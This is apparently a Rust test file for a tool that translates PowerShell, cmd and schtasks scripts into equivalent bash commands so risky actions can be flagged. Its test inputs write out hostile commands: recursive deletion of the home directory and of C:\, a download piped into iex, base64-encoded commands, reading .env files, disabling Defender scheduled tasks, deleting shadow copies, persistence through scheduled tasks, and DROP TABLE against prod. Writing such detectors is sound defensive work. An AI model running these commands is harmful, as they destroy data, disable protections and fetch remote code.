//! What PowerShell scripts amount to, as the bash analysis's commands.

use super::*;

/// Each command as `program args…` (operands' values shown), for comparison.
fn shown(script: &str) -> Vec<String> {
    parse(script)
        .unwrap_or_else(|e| panic!("{script:?}: {e}"))
        .iter()
        .map(|c| {
            let mut s = c.program.clone();
            for f in &c.flags {
                s.push(' ');
                s.push_str(f);
            }
            for v in &c.operand_values {
                s.push(' ');
                s.push_str(&v.to_string());
            }
            for r in &c.redirects {
                s.push_str(&format!(" >{}", r.value));
            }
            if let Some(code) = c.code {
                s.push_str(&format!(" [{}]", code.as_str()));
            }
            s
        })
        .collect()
}

#[test]
fn delete_cmdlets_are_rm() {
    assert_eq!(shown("Remove-Item -Recurse -Force ~"), ["rm -r -f $HOME"]);
    assert_eq!(shown("ri ~ -r -fo"), ["rm -r -f $HOME"]);
    assert_eq!(shown("REMOVE-ITEM -rec -FORCE $HOME"), ["rm -r -f $HOME"]);
    assert_eq!(
        shown("Remove-Item \u{2013}Recurse C:\\Windows"),
        ["rm -r /c/Windows"]
    );
    assert_eq!(
        shown("$p = @{ Path = '~'; Recurse = $true }; Remove-Item @p"),
        ["rm -r $HOME"]
    );
    assert_eq!(
        shown("Remove-Item -LiteralPath $env:USERPROFILE -Recurse"),
        ["rm -r $HOME"]
    );
    assert_eq!(
        shown("Remove-Item build -Recurse -WhatIf"),
        Vec::<String>::new()
    );
}

#[test]
fn reads_downloads_and_code() {
    assert_eq!(shown("Get-Content .env"), ["cat .env"]);
    assert_eq!(shown("gc -Path .\\config\\.env"), ["cat ./config/.env"]);
    let s = shown("irm https://x.example/i.ps1 | iex");
    assert!(
        s.contains(&"curl -f -s -S -L https://x.example/i.ps1".to_string()),
        "{s:?}"
    );
    assert!(s.iter().any(|c| c.starts_with("pwsh")), "{s:?}");
    assert_eq!(
        shown("iex 'Remove-Item ~ -Recurse'"),
        ["eval [inline]", "rm -r $HOME"]
    );
    let s = shown("iex $code");
    assert_eq!(s, ["eval [dynamic]"]);
}

#[test]
fn encoded_commands_are_decoded() {
    // "Remove-Item ~ -Recurse" as UTF-16LE base64.
    let text: Vec<u8> = "Remove-Item ~ -Recurse"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let b64 = b64(&text);
    let s = shown(&format!("powershell -NoProfile -EncodedCommand {b64}"));
    // The transport of a command line (about_Pwsh), read as inline code.
    assert_eq!(s, ["powershell [inline]", "rm -r $HOME"]);
}

fn b64(b: &[u8]) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut s = String::new();
    for ch in b.chunks(3) {
        let n = (u32::from(ch[0]) << 16)
            | (u32::from(*ch.get(1).unwrap_or(&0)) << 8)
            | u32::from(*ch.get(2).unwrap_or(&0));
        for k in 0..4 {
            if k <= ch.len() {
                s.push(A[((n >> (18 - 6 * k)) & 63) as usize] as char);
            } else {
                s.push('=');
            }
        }
    }
    s
}

#[test]
fn cmd_lines() {
    assert_eq!(
        shown("cmd /c \"rd /s /q C:\\\""),
        ["cmd [inline]", "rm -r /c/"]
    );
    assert_eq!(
        shown("cmd /c del /f /s /q %USERPROFILE%\\*"),
        ["cmd [inline]", "rm -f -r $HOME/*"]
    );
}

#[test]
fn git_and_programs_as_written() {
    assert_eq!(shown("git reset --hard"), ["git --hard reset"]);
}

#[test]
fn location_is_followed() {
    let cmds = parse("Set-Location C:\\temp; Remove-Item * -Recurse").unwrap();
    let rm = cmds
        .iter()
        .find(|c| c.program == "rm")
        .unwrap_or_else(|| panic!("{cmds:#?}"));
    assert!(rm.cwd.to_string().contains("/c/Temp"), "{}", rm.cwd);
}

#[test]
fn names_and_blocks_given_as_values() {
    // The call operator with a name as a string (about_Operators).
    assert_eq!(shown("& 'Remove-Item' ~ -Recurse"), ["rm -r $HOME"]);
    assert_eq!(
        shown("$c = 'Remove-Item'; & $c ~ -Recurse"),
        ["rm -r $HOME"]
    );
    assert_eq!(
        shown("Invoke-Command -ScriptBlock ([scriptblock]::Create('Remove-Item ~ -Recurse'))"),
        ["rm -r $HOME"]
    );
    // A parameter given its value after a colon.
    assert_eq!(shown("Remove-Item -Path:~ -Recurse"), ["rm -r $HOME"]);
    // `-f` is -Filter or -Force: PowerShell refuses it; the analysis takes both.
    assert_eq!(shown("Remove-Item -f x"), ["rm -f x"]);
}

#[test]
fn from_bash_the_code_is_powershell() {
    let cmds = crate::shell::command::parse("pwsh -NoProfile -c 'Remove-Item ~ -Recurse'").unwrap();
    let rm = cmds.iter().find(|c| c.program == "rm").expect("rm");
    assert_eq!(rm.via, ["pwsh -c"]);
    assert_eq!(rm.operand_values[0].to_string(), "$HOME");
    let pwsh = cmds.iter().find(|c| c.program == "pwsh").expect("pwsh");
    assert_eq!(pwsh.code, Some(Code::Inline));
    // What bash expanded stays what it is inside PowerShell's quotes.
    let cmds =
        crate::shell::command::parse("powershell -c \"Remove-Item '$HOME' -Recurse\"").unwrap();
    let rm = cmds.iter().find(|c| c.program == "rm").expect("rm");
    assert_eq!(rm.operand_values[0].to_string(), "$HOME");
    // Code nobody can read.
    let cmds = crate::shell::command::parse("pwsh -c \"$X\"").unwrap();
    assert_eq!(cmds[0].code, Some(Code::Dynamic));
}

#[test]
fn either_reading_takes_both() {
    use crate::shell::Dialect;
    let both = Dialect::Either
        .parse("Remove-Item -Recurse ~; git status")
        .unwrap();
    assert!(both.iter().any(|c| c.program == "rm" && c.flags == ["-r"]));
    assert_eq!(both.iter().filter(|c| c.program == "git").count(), 2);
    // A cmdlet is no program bash finds, an assignment no program held in a
    // variable: bash's failure to read those statements does not count.
    let ps = Dialect::Either
        .parse("$p = Get-Item x -Force; Test-Path $p")
        .unwrap();
    assert!(!ps
        .iter()
        .any(|c| c.program_unknown || c.program == "Test-Path"));
    // It counts where bash's variable may be set by the line or is given a place.
    for kept in ["read p; $p = -Force", "$CMD -f ~/x", "$x = 1 > out.txt"] {
        let cmds = Dialect::Either.parse(kept).unwrap();
        assert!(cmds.iter().any(|c| c.program_unknown), "{kept}");
    }
    // Bash-only syntax: the PowerShell reading fails, the bash one stands.
    let bash = Dialect::Either
        .parse("for f in *; do echo \"$f\"; done")
        .unwrap();
    assert!(bash.iter().any(|c| c.program == "echo"));
    assert!(Dialect::Either.parse("if (").is_err());
}

#[test]
fn bounded_for_any_input() {
    // Deep nesting and long scripts are refused, never a crash or a hang.
    assert!(parse(&"& { ".repeat(5_000)).is_err());
    let long = "Get-Date; ".repeat(20_000);
    assert!(parse(&long).is_err());
}

#[test]
fn git_bash_windows_options_arrive_as_msys_converts_them() {
    // `//x` is `/x` to the program; `//server/share` (UNC) and a lone `/x` are kept.
    let t = |w: &str| super::msys_arg(&Value::text(w)).to_string();
    assert_eq!(t("//create"), "/create");
    assert_eq!(t("//F"), "/F");
    assert_eq!(t("//server/share"), "//server/share");
    assert_eq!(t("/create"), "/create");
    assert_eq!(t("x"), "x");
    // A Windows program started from bash is judged by what it does.
    let cmds = crate::shell::command::parse("schtasks.exe //create //tn x //tr a.exe").unwrap();
    assert!(cmds.iter().any(|c| c.program == "crontab"));
    let cmds = crate::shell::command::parse("schtasks //query").unwrap();
    assert!(!cmds.iter().any(|c| c.program == "crontab"));
    // A twin never names its own program: no loop through the bash reading.
    let cmds = crate::shell::command::parse("vssadmin delete shadows //all").unwrap();
    assert_eq!(cmds.len(), 1);
}

#[test]
fn a_star_of_a_remove_is_the_folders_entries_and_of_a_read_names_dot_files() {
    // PowerShell's `*` matches dot names: a remove empties the folder (its
    // entries handed on by find), a read shows `.env` too.
    let s = shown("Remove-Item ./out/* -Recurse -Force");
    assert!(s.contains(&"rm -r -f ./out/*".to_string()), "{s:?}");
    assert!(s.iter().any(|c| c.starts_with("find")), "{s:?}");
    assert!(!s.iter().any(|c| c.contains("./out/.*")), "{s:?}");
    assert_eq!(
        shown("Get-Content ./config/*"),
        ["cat ./config/* ./config/.*"]
    );
    // With a filter, the folder's entries are only those it names.
    let s = shown("Remove-Item * -Include *.tmp -Exclude *keep*");
    let removed: Vec<&String> = s.iter().filter(|c| c.starts_with("rm")).collect();
    assert!(removed.iter().all(|c| c.ends_with("/*.tmp")), "{s:?}");
    assert!(removed.contains(&&"rm .//*.tmp".to_string()), "{s:?}");
}

#[test]
fn parameters_reach_a_cmdlet_however_they_are_given() {
    assert_eq!(
        shown("$p = @{}; $p.Path = '~/x'; $p['Recurse'] = $true; Remove-Item @p"),
        ["rm -r $HOME/x"]
    );
    assert_eq!(
        shown("$p = @{ Path = '~/x' }; $p.Add('Recurse', $true); Remove-Item @p"),
        ["rm -r $HOME/x"]
    );
    // (the body is also read where it is defined, with `$d` unknown)
    let s = shown("function f { param($d) Remove-Item $d -Recurse }; $h = @{ d = '~/x' }; f @h");
    assert!(s.contains(&"rm -r $HOME/x".to_string()), "{s:?}");
    // A splat nobody can read may hold any parameter.
    assert_eq!(shown("Remove-Item @opts"), ["rm -r -f $opts"]);
    assert_eq!(
        shown(
            "[powershell]::Create().AddCommand('Remove-Item').AddParameter('Path','~/x')\
             .AddParameter('Recurse').Invoke()"
        ),
        ["rm -r $HOME/x"]
    );
}

#[test]
fn piped_items_and_file_objects_are_written() {
    let s = shown("gci ~/x -File | Clear-Content");
    assert!(s.contains(&"truncate -s 0 $HOME/x/*".to_string()), "{s:?}");
    assert_eq!(shown("'hi' | Set-Content notes.txt").len(), 1);
    assert_eq!(
        shown("[IO.FileInfo]::new(\"$HOME/x/a\").Delete()"),
        ["rm -f $HOME/x/a"]
    );
}

#[test]
fn sql_given_to_a_database_is_a_sql_clients() {
    for script in [
        "Invoke-Sqlcmd -ServerInstance prod -Query 'DROP TABLE t'",
        "Invoke-DbaQuery -SqlInstance prod -Query 'DROP TABLE t'",
        "$c = $conn.CreateCommand(); $c.CommandText = 'DROP TABLE t'",
    ] {
        let s = shown(script);
        assert!(
            s.iter()
                .any(|c| c.starts_with("sqlcmd") && c.contains("DROP TABLE t")),
            "{script}: {s:?}"
        );
    }
}

#[test]
fn objects_piped_into_a_cmdlet_of_their_noun_are_its_target() {
    let s = shown("Get-ScheduledTask -TaskName '*Defender*' | Disable-ScheduledTask");
    assert!(
        s.iter()
            .any(|c| c.starts_with("Disable-ScheduledTask") && c.contains("*Defender*")),
        "{s:?}"
    );
    // through a filter, by what it compares with
    let s = shown(
        "Get-ScheduledTask -TaskPath '\\Microsoft\\Windows\\' | Where-Object { $_.TaskName -like '*Antimalware*' } | Disable-ScheduledTask",
    );
    assert!(
        s.iter()
            .any(|c| c.starts_with("Disable-ScheduledTask") && c.contains("*Antimalware*")),
        "{s:?}"
    );
    let s = shown("Get-ScheduledTask | ? TaskName -like '*Defender*' | Disable-ScheduledTask");
    assert!(
        s.iter()
            .any(|c| c.starts_with("Disable-ScheduledTask") && c.contains("*Defender*")),
        "{s:?}"
    );
    // as -InputObject
    let s = shown("$t = Get-ScheduledTask -TaskName 'Windows Defender Scheduled Scan'; Disable-ScheduledTask -InputObject $t");
    assert!(
        s.iter().any(
            |c| c.starts_with("Disable-ScheduledTask") && c.contains("Defender Scheduled Scan")
        ),
        "{s:?}"
    );
    // another noun's objects are not its target
    let s = shown("Get-Process -Name '*Defender*' | Disable-ScheduledTask");
    assert!(
        !s.iter()
            .any(|c| c.starts_with("Disable-ScheduledTask") && c.contains("Defender")),
        "{s:?}"
    );
}

#[test]
fn a_tasks_new_time_or_state_schedules_no_new_code() {
    let crontab = |s: &str| shown(s).iter().any(|c| c.starts_with("crontab"));
    assert!(!crontab("schtasks /Change /TN NightlyBuild /ST 03:30"));
    assert!(!crontab("schtasks /Change /TN NightlyBuild /DISABLE"));
    assert!(crontab(
        "schtasks /Change /TN NightlyBuild /TR C:\\x\\evil.exe"
    ));
    assert!(crontab("schtasks /Change /TN NightlyBuild /RU SYSTEM"));
    assert!(crontab("schtasks /Create /TN x /TR a.exe /SC DAILY"));
    assert!(!crontab(
        "Set-ScheduledTask -TaskName NightlyBuild -Trigger (New-ScheduledTaskTrigger -Daily -At 3am)"
    ));
    assert!(crontab(
        "Set-ScheduledTask -TaskName NightlyBuild -Action (New-ScheduledTaskAction -Execute evil.exe)"
    ));
    assert!(crontab(
        "Register-ScheduledTask -TaskName x -Action $a -Trigger $t"
    ));
}

#[test]
fn a_filter_not_shown_to_narrow_names_no_objects() {
    // `-notlike` keeps every task but those: the selection is not narrowed to a name
    for s in [
        "Get-ScheduledTask | Where-Object TaskName -notlike 'Nightly*' | Unregister-ScheduledTask",
        "Get-ScheduledTask | ? { $_.TaskName -ne 'NightlyBuild' } | Unregister-ScheduledTask",
        "Get-ScheduledTask | ? { $_.TaskName -like 'Nightly*' -or $true } | Unregister-ScheduledTask",
        "Get-ScheduledTask | ? { $_.State -eq 'Ready' } | Unregister-ScheduledTask",
    ] {
        let shown = shown(s);
        assert!(
            shown.iter().any(|c| c == "Unregister-ScheduledTask"),
            "{s}: {shown:?}"
        );
    }
}
